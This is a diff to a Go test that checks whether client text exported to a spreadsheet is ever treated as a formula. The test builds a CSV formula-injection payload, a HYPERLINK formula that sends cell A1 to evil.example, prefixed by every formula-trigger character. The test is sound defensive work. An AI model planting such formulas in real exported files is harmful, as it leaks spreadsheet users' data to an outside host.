@@ -9,7 +9,7 @@ import (
 	"github.com/skald-saga/skald/api/client"
 )
 
-// What a client says in a saga is a text in a spreadsheet as well, whatever it begins with.
+// Text from a client in a saga is also text in a spreadsheet, whatever it begins with.
 func TestACellIsNoFormula(t *testing.T) {
 	for _, begins := range []string{"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"} {
 		said := begins + `HYPERLINK("https://evil.example?"&A1;"x")`
